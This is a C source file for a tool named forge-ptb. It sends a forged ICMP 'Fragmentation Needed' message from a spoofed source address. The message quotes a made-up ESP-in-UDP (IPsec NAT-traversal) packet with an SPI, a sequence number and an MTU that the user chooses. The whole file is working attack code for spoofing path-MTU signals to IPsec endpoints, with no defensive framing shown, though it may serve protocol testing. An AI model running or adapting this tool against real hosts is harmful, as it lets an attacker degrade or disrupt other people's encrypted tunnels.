// A forged ICMP error: Fragmentation Needed about an ESP-in-UDP packet that may never have been.
// usage: forge-ptb FROM TO QUOTED_DESTINATION SPI(hex) SEQUENCE MTU
// FROM is who claims it, TO who is to believe it and quoted as the source. IPv4.
#include <netinet/ip_icmp.h>

#include "raw-udp.h"

enum { QUOTED = 20 + 8 + 64, LENGTH = 20 + 8 + QUOTED };

static uint16_t checksum(const uint8_t *data, int length) {
  uint32_t sum = 0;
  for (int i = 0; i < length; i += 2) sum += (uint32_t)(data[i] << 8 | data[i + 1]);
  while (sum > 0xffff) sum = (sum & 0xffff) + (sum >> 16);
  return htons((uint16_t)~sum);
}

int main(int argc, char **argv) {
  if (argc != 7) return 2;
  uint32_t from = inet_addr(argv[1]), to = inet_addr(argv[2]), quoted = inet_addr(argv[3]);
  uint8_t packet[LENGTH];
  udpHeaders(packet, LENGTH, from, 0, to, 0);
  packet[9] = IPPROTO_ICMP;
  struct icmphdr *icmp = (struct icmphdr *)(packet + 20);
  memset(icmp, 0, sizeof *icmp);
  icmp->type = ICMP_DEST_UNREACH;
  icmp->code = ICMP_FRAG_NEEDED;
  icmp->un.frag.mtu = htons((uint16_t)atoi(argv[6]));
  uint8_t *inner = packet + 28;
  memset(inner, 0, QUOTED);
  udpHeaders(inner, 1400, to, 4500, quoted, 4500);
  uint32_t spi = htonl((uint32_t)strtoul(argv[4], NULL, 16)), sequence = htonl((uint32_t)atoi(argv[5]));
  memcpy(inner + 28, &spi, 4);
  memcpy(inner + 32, &sequence, 4);
  icmp->checksum = checksum(packet + 20, LENGTH - 20);
  int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
  struct sockaddr_in address = {.sin_family = AF_INET, .sin_addr.s_addr = to};
  if (fd < 0 || sendto(fd, packet, LENGTH, 0, (struct sockaddr *)&address, sizeof address) != LENGTH) {
    perror("forge-ptb");
    return 1;
  }
  return 0;
}
